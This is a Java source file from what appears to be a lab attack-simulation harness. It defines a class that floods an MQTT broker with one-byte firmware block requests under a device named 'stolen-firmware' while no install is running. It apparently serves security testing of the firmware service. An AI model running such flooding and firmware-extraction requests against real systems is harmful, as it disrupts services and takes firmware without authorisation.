// SPDX-License-Identifier: Apache-2.0
package io.parasol.lab.attack;

import io.parasol.broker.topic.Kind;
import io.parasol.config.model.site.DeviceId;
import java.io.IOException;
import java.nio.charset.StandardCharsets;

/** Requests one byte of an image after the other, although no install is running. */
final class FirmwareRequests extends MqttFlood {

  private static final String DEVICE = "stolen-firmware";

  private final String topic;

  FirmwareRequests(AttackTarget target) throws IOException {
    super(target, DEVICE, DEVICE);
    this.topic = target.topics().of(new DeviceId(DEVICE), Kind.REQUEST);
  }

  @Override
  public boolean attempt(int number) throws IOException {
    String request =
        "{\"request\":\"block\",\"install\":\"0199\",\"offset\":%d,\"length\":1}".formatted(number);
    return client().publishReliably(topic, request.getBytes(StandardCharsets.US_ASCII));
  }
}
